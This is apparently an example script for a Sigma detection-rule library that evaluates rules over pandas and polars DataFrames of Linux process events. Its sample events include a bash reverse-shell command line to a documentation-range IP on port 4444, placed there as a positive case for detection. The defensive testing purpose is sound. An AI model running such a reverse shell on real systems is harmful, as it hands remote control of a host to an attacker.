"""A frame of events becomes a frame of matches: run as ``python examples/embed/frames.py``."""

from __future__ import annotations

import sys

try:
    import pandas as pd
    import polars as pl
except ModuleNotFoundError as error:
    sys.exit(f"this example needs {error.name}: pip install 'pySigma-backend-pyeval[pandas,polars]'")

from sigma.pyeval import load_rules
from sigma.pyeval.frames import matches_frame

ruleset = load_rules("examples/rules", pipeline="linux_eval")
events = {
    "_HOSTNAME": ["web-1", "web-2"],
    "_EXE": ["/usr/bin/bash", "/usr/bin/curl"],
    "_CMDLINE": ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "curl https://example.org -o page.html"],
}
for frame in (pd.DataFrame(events), pl.DataFrame(events)):
    matches = matches_frame(frame, ruleset, keep=["_HOSTNAME"])
    print(type(matches).__module__.split(".")[0], list(matches["_HOSTNAME"]), list(matches["rule_title"]))
